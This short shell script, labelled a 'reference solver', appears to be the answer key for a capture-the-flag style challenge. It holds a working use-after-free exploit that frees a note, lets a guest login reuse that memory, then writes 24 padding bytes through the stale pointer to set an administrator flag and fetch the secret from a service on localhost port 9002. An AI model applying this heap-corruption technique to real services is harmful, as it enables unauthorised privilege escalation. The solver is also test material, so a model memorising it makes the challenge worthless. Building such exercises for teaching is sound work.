#!/bin/sh
# Reference solver: free the note, let login reuse its memory, then write through the stale
# pointer past the name into `administrator`.
python3 - <<'PY'
import socket, time
connection = socket.create_connection(("127.0.0.1", 9002), timeout=5)
for command in [b"new hello", b"delete", b"login guest", b"edit " + b"A" * 24 + b"B", b"flag"]:
    connection.sendall(command + b"\n")
    time.sleep(0.2)
time.sleep(0.3)
connection.settimeout(1)
reply = b""
try:
    while chunk := connection.recv(4096):
        reply += chunk
except socket.timeout:
    pass
print(reply.decode(errors="replace"))
PY
